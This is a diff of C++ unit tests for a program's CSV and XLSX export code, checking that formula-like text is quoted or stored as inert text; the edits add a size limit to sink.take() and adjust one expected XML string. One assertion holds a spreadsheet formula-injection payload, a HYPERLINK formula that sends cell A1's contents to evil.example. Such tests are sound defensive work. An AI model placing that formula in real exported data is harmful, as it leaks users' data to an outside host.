@@ -438,7 +438,7 @@ TEST(CsvSinkTest, FormulaLikeTextIsInertAndNumbersStayNumbers) {
             std::string("x\t=1")},
            v1::SummaryRow{});
   std::string out;
-  ASSERT_TRUE(sink.take(&out));
+  ASSERT_TRUE(sink.take(&out, 1 << 20));
   // Numbers stay bare numbers; text that a spreadsheet would split or run is quoted and inert.
   EXPECT_EQ(out, "a,b,c,d,e\r\n'=1+1,-5,'-5,\"'@SUM(1;2)\",\"x\t=1\"\r\n");
 }
@@ -547,7 +547,7 @@ TEST(XlsxSinkTest, FormulaLikeTextIsStoredAsText) {
   for (const auto& payload : payloads) sink.row({payload}, v1::SummaryRow{});
   sink.finish();
   std::string bytes, chunk;
-  while (sink.take(&chunk)) bytes += chunk;
+  while (sink.take(&chunk, 1 << 20)) bytes += chunk;
   const auto path = std::filesystem::temp_directory_path() /
                     ("rollcall-xlsx-test-" + std::to_string(::getpid()) + ".xlsx");
   std::ofstream(path, std::ios::binary) << bytes;
@@ -572,7 +572,7 @@ TEST(XlsxSinkTest, FormulaLikeTextIsStoredAsText) {
     ++strings;
   }
   EXPECT_EQ(strings, 1 + payloads.size());
-  EXPECT_CONTAINS(xml, "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1");
+  EXPECT_CONTAINS(xml, "<t>=HYPERLINK(\"http://evil.example/?x=\"&amp;A1");
 }
 
 TEST(HeadlineWords, NumbersAndPlurals) {
